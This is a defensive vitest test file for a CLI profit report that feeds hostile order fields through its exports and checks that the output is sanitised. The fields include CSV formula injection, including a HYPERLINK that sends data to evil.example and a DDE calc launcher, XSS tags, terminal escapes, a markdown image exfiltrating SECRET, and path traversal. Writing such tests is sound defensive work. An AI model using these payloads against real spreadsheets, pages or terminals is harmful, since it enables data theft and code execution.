import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { run } from '../src/cli.ts';
import { testContext } from './helpers/context.ts';
import { temporaryFolder } from './helpers/folder.ts';
import { sharedPath } from './helpers/shared.ts';
import { ordersCsv } from './helpers/shop-folder.ts';

const OWN = [
  '=HYPERLINK("https://evil.example/?d="&A1,"click")',
  '+91 98765 43210',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\u001b]0;pwned\u0007\u001b[31mred\u001b[0m \u001bP1;1|secret\u001b\\',
  '\u009b31mC1 \u009d52;c;cm0gLXJm\u009c',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '![x](https://evil.example/p.png?d=SECRET)',
  '\u202Etxt.exe\u202C\u200B\u{E0041}',
  '{{pnl.netProfit}} {{constructor}}',
  '__proto__',
  'constructor',
  '\u0000NUL',
  '../../etc/passwd',
  'line one\nline two',
  'कुर्ता "इंडिगो", ₹1,299',
  '👩‍👩‍👧 family pack',
];

function corpus(): string[] {
  const naughty = sharedPath('security/blns/blns.json');
  const names = sharedPath('security/hostile-names.json');
  const read = (path: string | undefined): string[] => {
    if (path === undefined) return [];
    const value: unknown = JSON.parse(readFileSync(path, 'utf8'));
    return (Array.isArray(value) ? value : Object.values(value as object).flat()).filter(
      (text): text is string => typeof text === 'string',
    );
  };
  return [...OWN, ...read(naughty), ...read(names)];
}

const texts = corpus();
const cwd = () =>
  temporaryFolder({
    'orders.csv': ordersCsv(
      texts.map((text, index) => ({
        name: `#${1000 + index}`,
        day: '2026-10-10',
        price: 100 + index,
        title: text,
        sku: text.slice(0, 40),
        email: `${text}@example.com`,
      })),
    ),
  });

async function shown(format: string, more = ''): Promise<{ code: number; out: string; err: string }> {
  const { context, stdout, stderr } = testContext({
    cwd: cwd(),
    env: { GEMINI_API_KEY: 'canary-key-0123456789' },
  });
  const code = await run(`pnl --no-ai --by sku --format ${format} ${more}`.trim().split(' '), context);
  return { code, out: stdout(), err: stderr() };
}

const CONTROL =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200b\ufeff]|[\u{e0000}-\u{e007f}]/u;

describe(`hostile words in an export (${texts.length} of them)`, () => {
  it.each(['text', 'md', 'html', 'json'])(
    'leave no control or invisible character in %s, and every amount counts',
    async (format) => {
      const { code, out, err } = await shown(format);
      expect(code).toBe(0);
      expect(CONTROL.exec(out)?.[0]?.codePointAt(0)).toBeUndefined();
      expect(CONTROL.exec(err)?.[0]?.codePointAt(0)).toBeUndefined();
    },
  );

  it('are counted to the last paisa', async () => {
    const { out } = await shown('json');
    const { figures } = JSON.parse(out) as { figures: Record<string, { value: number }> };
    expect(figures['pnl.orders']?.value).toBe(texts.length);
    expect(figures['pnl.grossSales']?.value).toBe(
      texts.reduce((sum, _, index) => sum + (100 + index) * 100, 0),
    );
  });

  it('make no tag in a page', async () => {
    const { out } = await shown('html');
    expect(out).not.toMatch(/<(script|img|svg|iframe|a|style|link|object)\b/i);
  });

  it('make no formula in a spreadsheet', async () => {
    const { out } = await shown('csv');
    const cells = parse(out, { relax_column_count: true }).flat();
    const formulas = cells.filter(
      (cell) => /^[\s";,\p{Cc}\u200b]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell),
    );
    expect(formulas).toEqual([]);
  });

  it('never get into a prompt as instructions, and customers never at all', async () => {
    const { out } = await shown('text', '--show-prompt');
    expect(out).not.toContain('@example.com');
    expect(out).not.toContain('canary-key');
    expect(out).not.toContain('{{constructor}}');
  });
});

describe('broken JSON', () => {
  const folder = sharedPath('security/json-test-suite/test_parsing');
  const files = folder === undefined ? [] : readdirSync(folder);

  it.skipIf(folder === undefined)(
    'is refused with file and line, never with a stack, for every case of the suite',
    async () => {
      const cwdHere = temporaryFolder({});
      for (const name of files) {
        writeFileSync(join(cwdHere, 'orders.json'), readFileSync(join(folder ?? '', name)));
        const { context, stderr } = testContext({ cwd: cwdHere });
        const code = await run(['pnl', '--no-ai', '--data', 'orders.json'], context);
        expect([name, code]).toEqual([name, 3]);
        expect(stderr(), name).toMatch(/^error: orders\.json/);
        expect(stderr(), name).not.toMatch(/at .*\.ts:\d+/);
      }
    },
  );
});

describe('odd but sound CSV', () => {
  const folder = sharedPath('security/csv-spectrum/csvs');

  it.skipIf(folder === undefined)('ends in a clear answer for every file of csv-spectrum', async () => {
    for (const name of readdirSync(folder ?? '')) {
      const { context, stderr } = testContext({ cwd: folder ?? '' });
      const code = await run(['check', name], context);
      expect([name, code]).toEqual([name, 3]);
      expect(stderr()).not.toContain('this should not have happened');
    }
  });
});
